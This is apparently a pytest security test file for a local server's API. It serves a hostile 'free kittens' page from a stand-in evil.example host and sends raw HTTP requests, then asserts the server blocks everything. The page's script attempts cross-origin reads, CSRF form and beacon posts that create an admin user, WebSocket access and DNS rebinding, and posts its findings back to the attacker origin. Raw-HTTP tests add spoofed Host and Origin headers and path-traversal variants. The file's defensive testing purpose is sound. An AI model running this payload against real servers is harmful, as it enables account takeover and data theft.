"""A hostile web page against the server's port: it gets nothing and changes nothing, in a real browser and by raw HTTP.

The page is given every advantage: the browser is told to accept the server's certificate, and the page knows an
administrator's token.
"""

from __future__ import annotations

import http.client
import http.server
import json
import os
import queue
import signal
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.unit.server_kit import running
from twofold.platform.run import find, spawn
from twofold.server.client import Admin

USER = {"name": "mallory", "password": "mallory mallory", "admin": True}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Admin, Path]]:
    with running(tmp_path_factory.mktemp("web")) as (admin, log):
        admin.create_user("ada", "ada ada ada ada")
        yield admin, log


def state(admin: Admin) -> tuple[Any, ...]:
    return admin.list_users(), admin.list_grants(), admin.list_devices(), len(admin.list_audit())


PAGE = """<!doctype html><meta charset=utf-8><title>free kittens</title><body><script>
const server = "%(origin)s", api = server + "/api/v1/", token = "%(token)s", user = JSON.stringify(%(user)s);
const seen = [], wait = ms => new Promise(done => setTimeout(done, ms));
const paths = ["users", "authority", "whoami", "grants", "images", "audit", "nothing", "device/grants"];
const kinds = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
const bearer = {Authorization: "Bearer " + token};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, {...options, cache: "no-store"});
    seen.push({name, type: answer.type, status: answer.status, text: await answer.text().catch(() => "")});
  } catch (error) { seen.push({name, type: "blocked", status: 0, text: ""}); }
}
function element(tag, attributes) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => done([made, "load"]); made.onerror = () => done([made, "error"]);
    document.body.append(made); setTimeout(() => done([made, "silence"]), 3000);
  });
}
function form(enctype, path, text) {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const made = Object.assign(document.createElement("form"), {method: "post", action: api + path, enctype, target: frame.name});
  const field = Object.assign(document.createElement("input"), {name: text.slice(0, -1), value: "}"});
  made.append(field); document.body.append(made); made.submit();
}
(async () => {
  for (const path of paths) for (const mode of ["cors", "no-cors"])
    for (const credentials of ["omit", "include"]) await attempt(`get ${path} ${mode}`, api + path, {mode, credentials});
  for (const path of paths) await attempt(`token ${path}`, api + path, {headers: bearer});
  for (const type of kinds) for (const path of ["users", "login", "enrol", "logout"]) for (const mode of ["cors", "no-cors"])
    await attempt(`post ${path} ${type}`, api + path, {method: "POST", mode, body: user, headers: {"Content-Type": type}});
  for (const type of kinds)
    await attempt(`token post ${type}`, api + "users", {method: "POST", body: user, headers: {...bearer, "Content-Type": type}});
  await attempt("delete", api + "grants/1", {method: "DELETE", headers: bearer});
  await attempt("blob", api + "users", {method: "POST", mode: "no-cors", body: new Blob([user])});
  navigator.sendBeacon(api + "users", new Blob([user], {type: "text/plain"}));
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) form(enctype, "users", user);
  for (const [tag, attributes] of [["img", {src: api + "authority"}], ["script", {src: api + "users"}],
      ["iframe", {src: api + "users"}], ["link", {rel: "stylesheet", href: api + "users"}]]) {
    const [made, how] = await element(tag, attributes);
    let text = ""; try { text = made.contentDocument ? made.contentDocument.body.innerText : ""; } catch (error) {}
    seen.push({name: tag, type: tag == "iframe" ? "framed" : how, status: 0, text});
  }
  await new Promise(done => { const socket = new WebSocket(api.replace("https", "wss") + "users");
    socket.onopen = () => { seen.push({name: "websocket", type: "open", status: 101, text: ""}); done(); };
    socket.onerror = () => { seen.push({name: "websocket", type: "blocked", status: 0, text: ""}); done(); }; });
  await attempt("rebinding", "https://rebound.example:" + new URL(server).port + "/api/v1/users", {headers: bearer});
  await wait(500);
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


def test_a_hostile_page_in_a_real_browser(server: tuple[Admin, Path], tmp_path: Path) -> None:
    admin, log = server
    before, logged = state(admin), len(log.read_text())
    origin = f"https://localhost:{admin.place.port}"
    page = PAGE % {"origin": origin, "token": admin.token, "user": json.dumps(USER)}
    reports: queue.Queue[list[dict[str, Any]]] = queue.Queue()

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil) as evil:
        threading.Thread(target=evil.serve_forever, daemon=True).start()
        browser = spawn(
            [
                find("chromium"), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-dev-shm-usage", "--no-first-run", "--ignore-certificate-errors",
                f"--user-data-dir={tmp_path / 'profile'}",
                "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1",
                "--remote-debugging-port=0", f"http://evil.example:{evil.server_port}/",
            ],
            env={"HOME": str(tmp_path)},
        )  # fmt: skip
        try:
            seen = reports.get(timeout=90)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
            evil.shutdown()
    names = {row["name"] for row in seen}
    assert {"token users", "img", "script", "iframe", "websocket", "rebinding", "get users no-cors"} <= names
    for row in seen:
        assert row["type"] in ("blocked", "opaque", "error", "framed"), row
        assert row["status"] == 0, row
        assert row["text"] == "", row
    answered = [json.loads(line) for line in log.read_text()[logged:].splitlines() if '"request"' in line]
    arrived = [row for row in answered if not row["who"].startswith("user")]
    assert len(arrived) > 20, "the browser did reach the server, which refused"
    assert {row["status"] for row in arrived} <= {400, 401, 403}
    assert state(admin) == before


def raw(admin: Admin, method: str, path: str, headers: dict[str, str], body: bytes = b"") -> tuple[int, bytes]:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = http.client.HTTPSConnection("127.0.0.1", admin.place.port, context=context, timeout=10)
    try:
        connection.putrequest(method, path, skip_host=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        if body or method == "POST":
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "rebound.example:{port}", "Origin": "https://rebound.example:{port}", "Sec-Fetch-Site": "same-origin"},
        {"Host": "rebound.example"},
        {"Host": "127.0.0.1.rebound.example:{port}"},
        {"Host": "127.0.0.1:{port}", "Origin": "https://rebound.example"},
        {"Host": "127.0.0.1:{port}", "Origin": "null"},
        {"Host": "127.0.0.1:{port}", "Origin": "http://127.0.0.1:{port}"},
        {"Host": "127.0.0.1:{port}", "Sec-Fetch-Site": "cross-site"},
    ],
)
@pytest.mark.parametrize("method", ["GET", "POST", "OPTIONS", "HEAD", "DELETE", "PUT"])
def test_rebound_names_and_foreign_origins(server: tuple[Admin, Path], headers: dict[str, str], method: str) -> None:
    admin, _ = server
    before = state(admin)
    sent = {name: value.format(port=admin.place.port) for name, value in headers.items()}
    sent |= {"Authorization": f"Bearer {admin.token}", "Content-Type": "application/json"}
    body = json.dumps(USER).encode() if method == "POST" else b""
    status, text = raw(admin, method, "/api/v1/users", sent, body)
    assert status == 403
    assert b"ada" not in text
    assert state(admin) == before


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "text/json"]
)
def test_a_simple_request_changes_nothing(server: tuple[Admin, Path], kind: str) -> None:
    admin, _ = server
    before = state(admin)
    headers = {"Host": f"127.0.0.1:{admin.place.port}", "Authorization": f"Bearer {admin.token}", "Content-Type": kind}
    assert raw(admin, "POST", "/api/v1/users", headers, json.dumps(USER).encode())[0] == 400
    assert state(admin) == before


@pytest.mark.parametrize(
    "path",
    [
        "/docs",
        "/redoc",
        "/openapi.json",
        "/api/v1",
        "/api/v1/../v1/users",
        "/api/v1/%75sers",
        "//api/v1/users",
        "/api/v1/users/",
    ],
)
def test_a_stranger_finds_one_wall(server: tuple[Admin, Path], path: str) -> None:
    admin, _ = server
    host = {"Host": f"127.0.0.1:{admin.place.port}"}
    assert raw(admin, "GET", path, host) == raw(admin, "GET", "/nothing/here", host)
    assert raw(admin, "GET", path, host)[0] == 401


def test_the_front_door_leads_to_the_sign_in_page_and_nowhere_else(server: tuple[Admin, Path]) -> None:
    admin, _ = server
    assert raw(admin, "GET", "/", {"Host": f"127.0.0.1:{admin.place.port}"}) == (303, b"")


def test_the_port_speaks_tls_alone(server: tuple[Admin, Path]) -> None:
    admin, _ = server
    plain = http.client.HTTPConnection("127.0.0.1", admin.place.port, timeout=10)
    with pytest.raises((http.client.HTTPException, OSError)):
        plain.request("GET", "/")
        plain.getresponse()
    plain.close()
